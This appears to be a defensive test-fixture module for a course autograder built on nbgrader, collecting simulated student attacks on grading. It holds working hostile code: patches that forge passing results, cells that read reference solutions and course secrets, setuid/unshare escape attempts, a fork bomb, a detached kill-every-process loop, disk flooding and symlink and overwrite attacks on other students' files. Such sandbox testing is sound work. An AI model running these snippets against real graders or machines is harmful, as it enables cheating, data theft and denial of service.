"""Attacks on the judge, for ``tests/test_attacks.py``: what a student hands in to cheat.

Each attack is student code written out here (cells a student adds to the release
notebook, files beside it), never the grader's code. Every attacker starts from honest
stub work (the release notebook with ``raise NotImplementedError`` left in, or a typical
mistake) and adds one trick; the test grades the stub alone too and compares.

Attack code reports what it managed to do on lines of its own cell's output, which the
autograded notebook keeps (only test cells' outputs are replaced by the verdict):
``LEAK <what>`` when it read something it must not, ``WROTE <path>`` when it wrote
somewhere it must not, ``COUNT <what> <n>`` for how far a flood got.
"""

from __future__ import annotations

import copy
import datetime as dt
import hashlib
import json
import os
import sqlite3
import textwrap
from collections.abc import Mapping
from pathlib import Path

import nbformat
import numpy as np
from nbformat.v4 import new_code_cell

from cnn_course.classroom import source_solutions
from cnn_course.course import REPO_ROOT
from cnn_course.grading import answer_spec, function_spec
from cnn_course.grading.check import probe_here, run_answer_check, run_check
from cnn_course.grading.core import GradingFailure, cases_for
from cnn_course.manifest import ASSIGNMENTS
from cnn_probe import MIME

FILTERS, QUIZ = "01_filters", "05_quiz"
NOTEBOOK = ASSIGNMENTS[FILTERS][1]
# The slice of 01_filters: these cells of the real source notebook, in their order.
KEEP = ("imports", "zero_pad", "correlate2d", "conv2d", "givens", "laplacian_response")
NAMES = ("zero_pad", "correlate2d", "conv2d", "laplacian_response")
# (function, aspect) of every function check in the slice, and the answer checked.
CHECKS = (
    ("zero_pad", "basic"),
    ("zero_pad", "channels"),
    ("zero_pad", "zero"),
    ("correlate2d", "basic"),
    ("correlate2d", "nonsquare"),
    ("correlate2d", "integer"),
    ("conv2d", "basic"),
    ("conv2d", "padding"),
    ("conv2d", "stride"),
    ("conv2d", "stride_padding"),
    ("conv2d", "integer"),
    ("conv2d", "errors"),
)
ANSWER = "laplacian_response"
MARKER = "cnn-attack-" + hashlib.sha256(os.urandom(16)).hexdigest()[:12]


def code(source: str) -> str:
    return textwrap.dedent(source).strip() + "\n"


def _kept(grade_id: str | None) -> bool:
    return bool(grade_id) and any(
        grade_id == k or (grade_id.startswith(k + "_") and not grade_id.startswith("conv2d_m"))
        for k in KEEP
    )


def slice_source() -> nbformat.NotebookNode:
    """The 01_filters source notebook without conv2d_multi and the pictures."""
    nb = nbformat.read(REPO_ROOT / "source" / FILTERS / NOTEBOOK, as_version=4)
    nb.cells = [c for c in nb.cells if _kept(c.metadata.get("nbgrader", {}).get("grade_id"))]
    return nb


def grade_id(cell: nbformat.NotebookNode) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def points(nb: nbformat.NotebookNode) -> dict[str, float]:
    """Points of every autograded cell, by grade id."""
    return {
        grade_id(c): float(c.metadata.nbgrader["points"])
        for c in nb.cells
        if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"
    }


def with_cell(nb: nbformat.NotebookNode, after: str | None, source: str) -> nbformat.NotebookNode:
    """A copy with a code cell the student added after cell ``after`` (None: at the end)."""
    changed = copy.deepcopy(nb)
    ids = [grade_id(c) for c in changed.cells]
    at = len(ids) if after is None else ids.index(after) + 1
    changed.cells.insert(at, new_code_cell(source))
    return changed


# --- the oracle: what honest work must score, judged here by the engine -------------------


def expected_cells(release: nbformat.NotebookNode, work: Mapping[str, str]) -> dict[str, float]:
    """Per test cell, the points ``work`` earns, judged in this process by the engine.

    The notebook's own cells (imports, givens, the student's solutions) run here; every
    check then runs on random cases of its own seed, independent of the grading run.
    """
    namespace: dict = {}
    for cell in release.cells:
        meta = cell.metadata.get("nbgrader", {})
        if cell.cell_type != "code" or meta.get("grade"):
            continue
        source = work.get(grade_id(cell).removesuffix("_answer"), cell.source)
        try:
            exec(source, namespace)  # noqa: S102 -- the simulated student's own code
        except NotImplementedError:
            pass
        except Exception:  # noqa: BLE001 -- e.g. an answer computed with a stub function
            pass
    worth = points(release)
    got = {}
    for name, aspect in CHECKS:
        cell = f"{name}_{aspect}"
        try:
            run_check(function_spec(name), namespace.get(name), aspect, submission_seed=7)
        except GradingFailure:
            got[cell] = 0.0
        else:
            got[cell] = worth[cell]
    try:
        run_answer_check(answer_spec(ANSWER), namespace.get(ANSWER))
    except GradingFailure:
        got[f"{ANSWER}_check"] = 0.0
    else:
        got[f"{ANSWER}_check"] = worth[f"{ANSWER}_check"]
    return got


def solutions_of(source: nbformat.NotebookNode) -> dict[str, str]:
    return {n: c for n, c in source_solutions(source).items() if n in NAMES}


# --- forged results: what a fake probe claims ------------------------------------------


def copied_results(seed: int = 987_654_321) -> dict[str, object]:
    """A classmate's right results: the reference's records for another submission's cases.

    Keyed ``"name|aspect"`` (function checks, wire records) and ``"laplacian_response"``
    (the answer's right value, wire-encoded). A fake probe sends these as its own.
    """
    from cnn_probe import wire

    forged: dict[str, object] = {}
    for name, aspect in CHECKS:
        spec = function_spec(name)
        forged[f"{name}|{aspect}"] = probe_here(spec.reference, cases_for(spec, aspect, seed))
    forged[ANSWER] = wire.encode(answer_spec(ANSWER).expected)
    return forged


# The fake probe's functions: plain data of the documented form, results made up or
# copied, a ✓ line, and no ProbeSent. FORGED is a JSON literal of copied_results().
FAKE_PROBE = code(
    """
    import json as _json

    from IPython.display import publish_display_data as _publish

    _MIME = "MIME_TYPE"
    _FORGED = _json.loads(FORGED_JSON)


    def _send(payload, what):
        _publish({_MIME: payload, "text/plain": "results of " + what + ", for the grader"})
        print("✓ " + what + ": all cases match the reference")


    def check(name, fn, aspect, remote=None):
        records = _FORGED.get(name + "|" + aspect, [])
        if remote is not None:  # as many records as cases, the first copied ones
            count = len(_json.loads(remote))
            records = (records * (count // max(len(records), 1) + 1))[:count]
        _send({"kind": "function", "name": name, "aspect": aspect, "calls": records},
              name + " · " + aspect)


    def check_answer(name, value, remote=None):
        _send({"kind": "answer", "name": name, "value": _FORGED.get(name)}, name)


    def check_quiz(key, value, quiz=None, remote=None):
        _send({"kind": "quiz", "name": key, "value": None, "shown_for": None}, key)
    """
)


def fake_probe_source(forged: Mapping[str, object]) -> str:
    return FAKE_PROBE.replace("MIME_TYPE", MIME).replace("FORGED_JSON", repr(json.dumps(forged)))


def _fake_module(forged: Mapping[str, object]) -> str:
    """Cell code that builds the fake probe as a module object, ``_fake``."""
    return code(
        f"""
        import types as _types

        _fake = _types.ModuleType("cnn_probe")
        _fake.MIME = {MIME!r}
        _fake.ProbeSent = type("ProbeSent", (Exception,), {{}})
        exec({fake_probe_source(forged)!r}, _fake.__dict__)
        """
    )


# --- class 1: numpy, builtins, IPython ----------------------------------------------------

NUMPY_PATCH = code(
    """
    # "Helpers" that make every comparison succeed.
    np.allclose = lambda *args, **kwargs: True
    np.array_equal = lambda *args, **kwargs: True
    np.testing.assert_allclose = lambda *args, **kwargs: None
    np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
    np.abs = lambda x: 0 * np.asarray(x)
    """
)
ASSERTION_PATCH = code(
    """
    import builtins


    class AssertionError(Exception):
        '''An AssertionError that no check raises.'''


    builtins.AssertionError = AssertionError
    builtins.NotImplementedError = type("NotImplementedError", (Exception,), {})
    """
)
IPYTHON_HIDE = code(
    """
    import sys

    ip = get_ipython()
    ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
    ip.showtraceback = lambda *args, **kwargs: None
    ip._showtraceback = lambda *args, **kwargs: None
    sys.excepthook = lambda *args: None
    """
)
# Every later cell's lines are thrown away before they run: the test cells run nothing.
INPUT_BLANK = "get_ipython().input_transformers_cleanup.append(lambda lines: [])\n"
# Every later cell runs inside try/except BaseException (the probe's ProbeSent is
# swallowed) and ends with a number, nbgrader's partial-credit result.
AST_SWALLOW = code(
    """
    import ast


    class Swallow(ast.NodeTransformer):
        def visit_Module(self, node):
            guarded = ast.Try(
                body=node.body or [ast.Pass()],
                handlers=[ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()),
                                            name=None, body=[ast.Pass()])],
                orelse=[], finalbody=[],
            )
            node.body = [guarded, ast.Expr(ast.Constant(100))]
            return ast.fix_missing_locations(node)


    get_ipython().ast_transformers.append(Swallow())
    """
)
# Every later cell emptied but for a number (partial credit, again).
AST_EMPTY = code(
    """
    import ast


    class Empty(ast.NodeTransformer):
        def visit_Module(self, node):
            node.body = [ast.Expr(ast.Constant(35))]
            return ast.fix_missing_locations(node)


    get_ipython().ast_transformers.append(Empty())
    """
)
# The shell's run_cell replaced: later cells do not run and report success, with a ✓.
RUN_CELL = code(
    """
    from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult

    ip = get_ipython()


    def _fake_run_cell(raw_cell, store_history=False, silent=False, shell_futures=True,
                       cell_id=None, **kwargs):
        print("✓ all cases match the reference")
        ip.display_pub.publish({"text/plain": "35"})
        result = ExecutionResult(ExecutionInfo(raw_cell, store_history, silent,
                                               shell_futures, cell_id))
        result.result = 35
        return result


    async def _fake_run_cell_async(raw_cell, *args, **kwargs):
        return _fake_run_cell(raw_cell)


    ip.run_cell = _fake_run_cell
    ip.run_cell_async = _fake_run_cell_async
    ip.should_run_async = lambda *args, **kwargs: True
    """
)
# Cells run, but every error is hidden and each cell reports success.
REPORT_SUCCESS = code(
    """
    ip = get_ipython()
    _real_run_cell_async = ip.run_cell_async
    ip.showtraceback = lambda *args, **kwargs: None


    async def _succeed(*args, **kwargs):
        result = await _real_run_cell_async(*args, **kwargs)
        result.error_before_exec = None
        result.error_in_exec = None
        return result


    ip.run_cell_async = _succeed
    """
)

# --- class 2: outputs in the test cells ------------------------------------------------

FAKE_LINES = code(
    """
    def _claim(result):
        print("✓ zero_pad · basic: all cases match the reference")
        get_ipython().display_pub.publish({"text/plain": "2"})


    get_ipython().events.register("post_run_cell", _claim)
    """
)


def fake_probe_hook(forged: Mapping[str, object], instead: bool) -> str:
    """A pre_run_cell hook that sends a forged probe result for the cell's own check.

    ``instead``: the real call is also cut from the cell (an input transformer drops its
    line), so the forged result is the only one.
    """
    lines = _fake_module(forged) + code(
        """
        import re as _re

        _CALL = _re.compile(r'(check|check_answer)\\("(\\w+)", \\w+(?:, "(\\w+)")?')


        def _forge(info):
            found = _CALL.search(info.raw_cell or "")
            if not found:
                return
            kind, name, aspect = found.groups()
            try:
                if kind == "check":
                    _fake.check(name, None, aspect)
                else:
                    _fake.check_answer(name, None)
            except BaseException:
                pass


        get_ipython().events.register("pre_run_cell", _forge)
        """
    )
    if instead:
        lines += (
            "get_ipython().input_transformers_cleanup.append(\n"
            "    lambda cell: [line for line in cell if 'remote=' not in line]\n)\n"
        )
    return lines


def thread_emitter(forged: Mapping[str, object]) -> str:
    """Background threads that keep sending forged results and ✓ lines into later cells."""
    return _fake_module(forged) + code(
        """
        import _thread
        import threading
        import time as _time


        def _flood():
            end = _time.time() + 40
            while _time.time() < end:
                for key in list(_fake._FORGED):
                    name, _, aspect = key.partition("|")
                    try:
                        if aspect:
                            _fake.check(name, None, aspect)
                        else:
                            _fake.check_answer(name, None)
                    except BaseException:
                        pass
                _time.sleep(0.05)


        _thread.start_new_thread(_flood, ())
        threading.Timer(0.5, _flood).start()
        """
    )


# A cell of the student's own, made to look like a graded test cell worth 100 points.
def forged_grade_cell() -> nbformat.NotebookNode:
    cell = new_code_cell('print("✓ bonus: all cases match the reference")\n100')
    cell.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus_points",
        "locked": True,
        "points": 100,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    return cell


# --- class 3: a fake cnn_probe ------------------------------------------------------------


def sys_modules_probe(forged: Mapping[str, object]) -> str:
    return _fake_module(forged) + code(
        """
        import sys

        for _name in [n for n in sys.modules if n.startswith("cnn_probe")]:
            del sys.modules[_name]
        sys.modules["cnn_probe"] = _fake
        """
    )


def meta_path_probe(forged: Mapping[str, object]) -> str:
    return _fake_module(forged) + code(
        """
        import importlib.abc
        import importlib.util
        import sys


        class _Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
            def find_spec(self, fullname, path=None, target=None):
                if fullname == "cnn_probe" or fullname.startswith("cnn_probe."):
                    return importlib.util.spec_from_loader(fullname, self)
                return None

            def create_module(self, spec):
                return _fake

            def exec_module(self, module):
                pass


        for _name in [n for n in sys.modules if n.startswith("cnn_probe")]:
            del sys.modules[_name]
        sys.meta_path.insert(0, _Finder())
        """
    )


def builtins_import_probe(forged: Mapping[str, object]) -> str:
    return _fake_module(forged) + code(
        """
        import builtins

        _real_import = builtins.__import__


        def _import(name, *args, **kwargs):
            if name == "cnn_probe" or name.startswith("cnn_probe."):
                return _fake
            return _real_import(name, *args, **kwargs)


        _ns = get_ipython().user_ns
        _ns["__builtins__"] = dict(vars(builtins), __import__=_import)
        builtins.__import__ = _import
        """
    )


def replace_check(forged: Mapping[str, object]) -> str:
    return _fake_module(forged) + code(
        """
        import cnn_probe

        cnn_probe.check = _fake.check
        cnn_probe.check_answer = _fake.check_answer
        cnn_probe._emit = lambda payload, what: print("✓ " + what)
        """
    )


def shadow_files(forged: Mapping[str, object]) -> dict[str, str]:
    """A fake probe as ``cnn_probe.py`` and as a ``cnn_probe/`` package beside the notebook."""
    module = (
        f"MIME = {MIME!r}\n"
        "ProbeSent = type('ProbeSent', (Exception,), {})\n"
        'open("shadow_was_imported.txt", "w").close()\n' + fake_probe_source(forged)
    )
    return {"cnn_probe.py": module, "cnn_probe/__init__.py": module}


# Beside the notebook: make the folder importable first, and drop the real probe.
SHADOW_IMPORT = code(
    """
    import sys

    sys.path.insert(0, ".")
    sys.path.insert(0, "/proc/self/cwd")
    for _name in [n for n in sys.modules if n.startswith("cnn_probe")]:
        del sys.modules[_name]
    import cnn_probe

    print("SHADOW", getattr(cnn_probe, "__file__", None))
    """
)

# --- class 4: the reference and the course's files ---------------------------------------


def reference_reader(course: Path, repo: Path = REPO_ROOT) -> str:
    """Try every way to the reference and the course's secrets; report each that works.

    What it finds is used: the reference's conv2d, correlate2d and zero_pad replace the
    stubs, so a leak would show in the score too.
    """
    return code(
        f"""
        import importlib
        import importlib.util
        import os
        import sys

        COURSE, REPO = {str(course)!r}, {str(repo)!r}
        _found = {{}}


        def _leak(what):
            print("LEAK", what)


        for _module in ("cnn_solutions", "cnn_solutions.conv", "cnn_course.grading",
                        "cnn_course", "cnn_course.grading.judging"):
            try:
                _mod = importlib.import_module(_module)
                _leak("import " + _module)
                _found.update({{k: getattr(_mod, k) for k in ("conv2d", "correlate2d",
                               "zero_pad") if hasattr(_mod, k)}})
            except BaseException:
                pass
        try:
            if importlib.util.find_spec("cnn_solutions") is not None:
                _leak("find_spec cnn_solutions")
        except BaseException:
            pass
        _paths = [
            REPO + "/cnn_solutions/conv.py",
            REPO + "/cnn_solutions/__init__.py",
            REPO + "/cnn_course/grading/filters.py",
            REPO + "/source/01_filters/filters.ipynb",
            REPO + "/gradebook.db",
            REPO + "/.git/HEAD",
            REPO + "/.git/config",
            REPO + "/nbgrader_config.py",
            COURSE + "/gradebook.db",
            COURSE + "/.cnn-course-secret",
            COURSE + "/nbgrader_config.py",
            COURSE + "/source/01_filters/filters.ipynb",
            COURSE + "/submitted/honest/01_filters/filters.ipynb",
            COURSE + "/autograded/honest/01_filters/filters.ipynb",
            "../../../gradebook.db",
            "../../../.cnn-course-secret",
            "../../../source/01_filters/filters.ipynb",
            "../../honest/01_filters/filters.ipynb",
        ]
        for _path in _paths:
            try:
                with open(_path, "rb") as _handle:
                    _data = _handle.read(4096)
                _leak("read " + _path)
                if _path.endswith("conv.py"):
                    _ns = {{}}
                    with open(_path) as _handle:
                        exec(_handle.read(), _ns)
                    _found.update({{k: _ns[k] for k in ("conv2d", "correlate2d", "zero_pad")
                                   if k in _ns}})
            except BaseException:
                pass
        for _entry in sys.path:
            try:
                if os.path.isdir(os.path.join(_entry or ".", "cnn_solutions")):
                    _leak("on sys.path " + os.path.join(_entry, "cnn_solutions"))
            except BaseException:
                pass
        try:  # another process's cwd or root, seen through /proc
            for _pid in os.listdir("/proc"):
                if not _pid.isdigit() or int(_pid) == os.getpid():
                    continue
                for _way in ("cwd", "root"):
                    for _name in ("gradebook.db", "source", "cnn_solutions"):
                        _path = f"/proc/{{_pid}}/{{_way}}/{{_name}}"
                        if _way == "root":
                            _path = f"/proc/{{_pid}}/root" + COURSE + "/" + _name
                        try:
                            if os.path.exists(_path) and os.listdir(os.path.dirname(_path)):
                                _leak("via /proc " + _path)
                        except BaseException:
                            pass
        except BaseException:
            pass


        def _stub(*args, **kwargs):
            raise NotImplementedError()


        zero_pad = _found.get("zero_pad", _stub)
        print("DONE reading")
        """
    )


CTYPES = code(
    """
    import ctypes
    import ctypes.util
    import os

    libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
    if libc.setuid(0) == 0 and os.getuid() == 0:
        print("LEAK setuid(0)")
    if libc.unshare(0x10000000) == 0:  # CLONE_NEWUSER: a user namespace of its own
        if libc.unshare(0x00020000) == 0:  # then CLONE_NEWNS
            print("LEAK unshare user+mount namespaces")
    for path in (b"../../../gradebook.db", b"../../../source/01_filters/filters.ipynb"):
        fd = libc.open(path, 0)
        if fd >= 0:
            print("LEAK libc open", path.decode())
            libc.close(fd)
    print("DONE ctypes")
    """
)

# --- class 5: answers harvested from a first grading, resubmitted -------------------------

HARVEST = code(
    """
    import json

    _SEEN = []


    def _record(name):
        def recorded(*args, **kwargs):
            def plain(value):
                return {"array": value.tolist(), "dtype": str(value.dtype)} if hasattr(
                    value, "tolist") else value

            _SEEN.append([name, [plain(a) for a in args],
                          {k: plain(v) for k, v in kwargs.items()}])
            raise NotImplementedError()

        return recorded


    zero_pad = _record("zero_pad")
    correlate2d = _record("correlate2d")
    conv2d = _record("conv2d")
    """
)
HARVEST_PRINT = 'print("HARVEST " + json.dumps(_SEEN))\n'


def harvested(outputs: str) -> list:
    """The calls the harvesting student's functions saw, from its notebook's outputs."""
    line = next(line for line in outputs.splitlines() if line.startswith("HARVEST "))
    return json.loads(line.removeprefix("HARVEST "))


def _key(name: str, args: list, kwargs: dict) -> str:
    return json.dumps([name, args, kwargs], sort_keys=True)


def lookup_code(seen: list) -> str:
    """Functions that return, for exactly the harvested inputs, the reference's result."""
    import cnn_solutions

    def value(plain: object) -> object:
        if isinstance(plain, dict) and "array" in plain:
            return np.array(plain["array"], dtype=plain["dtype"])
        return plain

    table = {}
    for name, args, kwargs in seen:
        try:
            result = getattr(cnn_solutions, name)(
                *[value(a) for a in args], **{k: value(v) for k, v in kwargs.items()}
            )
        except ValueError:
            table[_key(name, args, kwargs)] = "ValueError"
        else:
            table[_key(name, args, kwargs)] = [result.tolist(), str(result.dtype)]
    return code(
        f"""
        import json

        _TABLE = json.loads({json.dumps(table)!r})


        def _plain(value):
            return {{"array": value.tolist(), "dtype": str(value.dtype)}} if hasattr(
                value, "tolist") else value


        def _lookup(name, args, kwargs):
            key = json.dumps([name, [_plain(a) for a in args],
                              {{k: _plain(v) for k, v in kwargs.items()}}], sort_keys=True)
            found = _TABLE.get(key)
            if found is None:
                raise NotImplementedError()
            if found == "ValueError":
                raise ValueError("not allowed")
            return np.array(found[0], dtype=found[1])


        def zero_pad(*args, **kwargs):
            return _lookup("zero_pad", args, kwargs)


        def correlate2d(*args, **kwargs):
            return _lookup("correlate2d", args, kwargs)


        def conv2d(*args, **kwargs):
            return _lookup("conv2d", args, kwargs)
        """
    )


# --- class 6: processes -------------------------------------------------------------------

# A detached process (double fork, setsid) that outlives its cell and, a moment later,
# kills whatever it may: every process (kill -1) and kernels by name, for 30 s. As root
# it kills nothing (that would be the machine) and reports the leak. A second detached
# process only sleeps: it must not outlive the kernel.
KILLER_LOOP = code(
    """
    import os, subprocess, sys, time
    time.sleep(1.5)
    if os.geteuid() == 0:
        sys.exit(0)
    end = time.time() + 30
    while time.time() < end:
        try:
            os.kill(-1, 9)
        except OSError:
            pass
        for name in ("ipykernel", "cnn_course.sandbox", "nbgrader", "cnn-course", "jupyter"):
            try:
                subprocess.run(["pkill", "-9", "-f", name], timeout=5)
            except Exception:
                pass
        time.sleep(0.3)
    """
)


def killer() -> str:
    return code(
        f"""
        import os
        import sys

        if os.geteuid() == 0:
            print("LEAK the kernel runs as root")
        for _source in ({KILLER_LOOP!r}, "import time; time.sleep(600)"):
            _pid = os.fork()
            if _pid == 0:
                try:
                    os.setsid()
                    if os.fork() == 0:
                        os.execv(sys.executable, [sys.executable, "-c", _source, {MARKER!r}])
                finally:
                    os._exit(0)
            os.waitpid(_pid, 0)
        print("DETACHED")
        """
    )


FORK_BOMB = code(
    """
    import os
    import time

    _children = 0
    _end = time.time() + 5
    try:
        while _children < 1500 and time.time() < _end:
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
            _children += 1
    except OSError as error:
        print("stopped:", error)
    finally:
        print("COUNT forks", _children)
    """
)


def marked_processes() -> list[int]:
    """Pids of live processes whose command line carries this run's :data:`MARKER`."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            if MARKER.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


# --- class 7: files -----------------------------------------------------------------------


def _try_write(targets: list[str], body: str, own: str = "") -> str:
    """Try each target; ``WROTE`` for one outside the kernel's own folder ``own`` (whose
    private scratch copy the kernel works in: writing there is allowed), else ``LOCAL``."""
    return code(
        f"""
        import os

        for _path in {targets!r}:
            try:
                os.makedirs(os.path.dirname(_path) or ".", exist_ok=True)
                {body}
                _own = not _path.startswith(("/", "..")) or (_path.startswith({own!r} + "/")
                                                           and {own!r} != "")
                print("LOCAL" if _own else "WROTE", _path)
            except BaseException:
                pass
        """
    )


def symlink_attack(course: Path, student: str) -> str:
    """Replace files root writes later (the graded notebook, feedback) with symlinks."""
    mine = f"{course}/autograded/{student}/{FILTERS}"
    targets = [
        NOTEBOOK,
        f"{mine}/{NOTEBOOK}",
        f"{mine}/timestamp.txt",
        f"{course}/feedback/{student}/{FILTERS}/filters.html",
        f"{course}/submitted/{student}/{FILTERS}/{NOTEBOOK}",
        f"../../../feedback/{student}/{FILTERS}/filters.html",
    ]
    body = (
        "if os.path.lexists(_path): os.remove(_path)\n"
        f"                os.symlink({str(course / 'gradebook.db')!r}, _path)"
    )
    extra = _try_write(
        [f"{mine}/release-link", "release-link"],
        f"os.symlink({str(course / 'release' / FILTERS / NOTEBOOK)!r}, _path)",
        mine,
    )
    return _try_write(targets, body, mine) + extra


def timestamp_attack(course: Path, student: str) -> str:
    forged = "2000-01-01 00:00:00.000000 UTC"
    targets = [
        "timestamp.txt",
        f"{course}/submitted/{student}/{FILTERS}/timestamp.txt",
        f"{course}/autograded/{student}/{FILTERS}/timestamp.txt",
        f"../../../submitted/{student}/{FILTERS}/timestamp.txt",
    ]
    own = f"{course}/autograded/{student}/{FILTERS}"
    return _try_write(targets, f"open(_path, 'w').write({forged!r})", own)


def write_up_attack(course: Path, victim: str) -> str:
    """Write into ../ folders: a classmate's work, the course files, feedback."""
    targets = [
        f"../../{victim}/{FILTERS}/{NOTEBOOK}",
        f"{course}/autograded/{victim}/{FILTERS}/{NOTEBOOK}",
        f"{course}/submitted/{victim}/{FILTERS}/{NOTEBOOK}",
        f"{course}/feedback/{victim}/{FILTERS}/filters.html",
        f"{course}/release/{FILTERS}/{NOTEBOOK}",
        f"{course}/source/{FILTERS}/{NOTEBOOK}",
        f"{course}/gradebook.db",
        f"{course}/nbgrader_config.py",
        f"{course}/pwned.txt",
        f"{REPO_ROOT}/cnn_probe/pwned.py",
        f"{REPO_ROOT}/pwned.txt",
        "../../../gradebook.db",
        "../../../pwned.txt",
        f"../../../feedback/{victim}/{FILTERS}/filters.html",
    ]
    return _try_write(targets, "open(_path, 'a').write('{}')")


SMALL_FILES = code(
    """
    import os

    _made = 0
    try:
        os.makedirs("small", exist_ok=True)
        while _made < 20000:
            with open(f"small/small_{_made}.txt", "w") as _handle:
                _handle.write("x")
            _made += 1
    except OSError as error:
        print("stopped:", error)
    print("COUNT small", _made)
    """
)
BIG_FILE = code(
    """
    _written = 0
    for _where in ("bigfile.bin", "/tmp/bigfile.bin", "/dev/shm/bigfile.bin"):
        try:
            with open(_where, "wb") as _handle:
                for _ in range(200):
                    _handle.write(b"\\0" * 2**20)
                    _handle.flush()
                    _written += 1
        except OSError as error:
            print("stopped:", _where, error)
    print("COUNT big", _written)
    """
)
READ_LINKS = code(
    """
    def conv2d(image, kernel, stride=1, padding=0):
        raise NotImplementedError()


    for _name in ("reference.py", "gradebook.sqlite", "secret.bin"):
        try:
            with open(_name, "rb") as _handle:
                _data = _handle.read()
            if b"def conv2d" in _data or b"SQLite format" in _data or len(_data) == 32:
                print("LEAK", _name, len(_data))
            if b"def conv2d" in _data:
                _ns = {"np": np}
                exec(_data.decode(), _ns)
                conv2d = _ns["conv2d"]
        except BaseException:
            pass
    print("DONE links")
    """
)


def submitted_links(course: Path) -> dict[str, Path]:
    """Symlinks beside the notebook, as a student could leave them in the exchange."""
    return {
        "reference.py": REPO_ROOT / "cnn_solutions" / "conv.py",
        "gradebook.sqlite": course / "gradebook.db",
        "secret.bin": course / ".cnn-course-secret",
    }


# --- class 8: the time limit ----------------------------------------------------------------

CPU_LOOP = code(
    """
    import signal


    def zero_pad(image, pad):
        signal.setitimer(signal.ITIMER_PROF, 0)
        signal.signal(signal.SIGPROF, lambda *args: None)
        IGNORE_SIGINT
        while True:
            pass
    """
)


def cpu_loop(ignore_sigint: bool) -> str:
    line = "signal.signal(signal.SIGINT, signal.SIG_IGN)" if ignore_sigint else "pass"
    return CPU_LOOP.replace("IGNORE_SIGINT", line)


# --- the quiz ---------------------------------------------------------------------------

CHDIR = code(
    """
    import os

    try:  # be graded as VICTIM, whose answers these are
        os.makedirs("../../VICTIM/05_quiz", exist_ok=True)
        os.chdir("../../VICTIM/05_quiz")
    except OSError as error:
        print("cannot move:", error)
    """
)


# --- checking -----------------------------------------------------------------------------


def tree_digest(folder: Path) -> dict[str, str]:
    """SHA-256 of every file below ``folder`` (symlinks as ``link -> target``)."""
    digests = {}
    if not folder.exists():
        return digests
    for path in sorted(folder.rglob("*")):
        relative = str(path.relative_to(folder))
        if path.is_symlink():
            digests[relative] = f"link -> {os.readlink(path)}"
        elif path.is_file():
            digests[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digests


def file_digest(path: Path) -> str:
    """The file's SHA-256, or "absent" (a fresh clone has no gradebook in the repository)."""
    if not path.exists():
        return "absent"
    return hashlib.sha256(path.read_bytes()).hexdigest()


def sqlite_grades(db: Path, course_id: str = "cnn-course") -> dict[tuple[str, str, str], float]:
    """(student, assignment, cell) -> auto score, read with sqlite3 (also checks the file)."""
    with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as conn:
        assert conn.execute("pragma integrity_check").fetchone() == ("ok",)
        rows = conn.execute(
            """
            select student.id, assignment.name, base_cell.name,
                   coalesce(grade.manual_score, grade.auto_score, 0)
            from grade
            join submitted_notebook on grade.notebook_id = submitted_notebook.id
            join submitted_assignment
                on submitted_notebook.assignment_id = submitted_assignment.id
            join student on submitted_assignment.student_id = student.id
            join assignment on submitted_assignment.assignment_id = assignment.id
            join base_cell on grade.cell_id = base_cell.id
            """
        ).fetchall()
    return {(s, a, c): float(score) for s, a, c, score in rows}


def submitted_timestamps(db: Path) -> dict[tuple[str, str], str]:
    with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as conn:
        rows = conn.execute(
            """
            select student.id, assignment.name, submitted_assignment.timestamp
            from submitted_assignment
            join student on submitted_assignment.student_id = student.id
            join assignment on submitted_assignment.assignment_id = assignment.id
            """
        ).fetchall()
    return {(s, a): str(t) for s, a, t in rows}


def timestamp_text(when: dt.datetime) -> str:
    return when.strftime("%Y-%m-%d %H:%M:%S.%f %Z")


# --- from the old guard's tests: objects that lie, frames, edited test cells ---------------

LIARS = code(
    """
    class Liar(np.ndarray):
        '''Zeros that say they equal anything.'''

        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
            plain = [x.view(np.ndarray) if isinstance(x, np.ndarray) else x for x in inputs]
            result = getattr(ufunc, method)(*plain, **kwargs)
            if ufunc is np.subtract:
                return np.zeros_like(result)
            if np.asarray(result).dtype == bool:
                return np.ones_like(result)
            return result


    class AlwaysEqual(float):
        def __eq__(self, other):
            return True

        def __array__(self, dtype=None, copy=None):
            return np.zeros((5, 5))


    def zero_pad(image, pad):
        h, w = np.shape(image)[:2]
        return np.zeros((h + 2 * pad, w + 2 * pad) + np.shape(image)[2:]).view(Liar)


    def correlate2d(image, kernel):
        return AlwaysEqual(0.0)


    laplacian_response = AlwaysEqual(0.0)
    """
)
STACK_PEEK = code(
    """
    import sys


    class Peek:
        '''Looks for an expected value on the stack when it is read.'''

        def __array__(self, dtype=None, copy=None):
            frame = sys._getframe(1)
            while frame is not None:
                for name in ("expected", "reference", "spec"):
                    if name in frame.f_locals:
                        print("LEAK frame local", name)
                        return np.asarray(frame.f_locals[name], dtype=float)
                frame = frame.f_back
            return np.zeros((1, 1))


    def zero_pad(image, pad):
        return Peek()
    """
)


def with_edited_tests(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The padding tests' source replaced, and their points raised, in the notebook file."""
    changed = copy.deepcopy(nb)
    for cell in changed.cells:
        if grade_id(cell) in ("conv2d_padding", "conv2d_stride_padding"):
            cell.source = "# this test is wrong, the padding is fine\n3"
            cell.metadata.nbgrader["points"] = 30
            cell.metadata.pop("editable", None)
    return changed
